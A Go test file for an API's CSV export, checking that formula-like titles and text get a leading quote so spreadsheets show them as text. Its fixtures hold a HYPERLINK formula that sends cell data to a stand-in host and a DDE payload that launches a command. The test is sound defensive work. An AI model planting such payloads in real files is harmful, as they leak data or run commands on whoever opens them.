package api_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"testing"

	"github.com/agentry/agentry/internal/store"
	"github.com/agentry/agentry/internal/store/storetest"
	"github.com/agentry/agentry/internal/testserver"
)

// TestCSVExportNeutralisesFormulas: a title a feed or page chose, such as
// =HYPERLINK(…), reaches the downloaded CSV with a leading quote, so a
// spreadsheet shows it as text instead of evaluating it.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		s := testserver.Start(t, d)
		src := mustID(t, s.Do(t, "POST", "/sources", s.Key, map[string]any{"name": "feed", "source_type": "custom_index"}))
		const title = `=HYPERLINK("https://evil.example/?d="&B2,"Click")`
		r := s.Do(t, "POST", "/sources/"+src, s.Key, map[string]any{"text": "@SUM(1+1)*cmd|' /C calc'!A0", "title": title})
		if r.Status >= 300 {
			t.Fatalf("inline text: %d %s", r.Status, r.Body)
		}
		base := "/sources/" + src + "/exports"
		id := mustID(t, s.Do(t, "POST", base, s.Key, map[string]any{"format": "csv"}))
		if done := waitExport(t, s, s.Key, base+"/"+id); done["status"] != "completed" {
			t.Fatalf("export: %v", done)
		}
		dl := s.Do(t, "GET", base+"/"+id+"/download", s.Key, nil)
		wantStatus(t, dl, http.StatusOK)
		rows, err := csv.NewReader(bytes.NewReader(dl.Body)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv: %v %q", err, rows)
		}
		if rows[1][4] != "'"+title || rows[1][9] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
			t.Errorf("formula cells exported as %q and %q", rows[1][4], rows[1][9])
		}
	})
}
